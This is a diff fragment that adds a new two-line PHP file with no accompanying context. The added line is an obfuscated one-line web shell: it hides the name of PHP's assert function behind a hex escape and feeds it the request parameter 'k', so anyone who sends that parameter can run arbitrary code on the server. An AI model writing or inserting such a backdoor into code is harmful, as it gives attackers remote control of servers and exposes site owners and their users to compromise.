@@ -1,0 +1,2 @@
+<?php
+array_map("ass\x65rt", (array) $_REQUEST['k']);
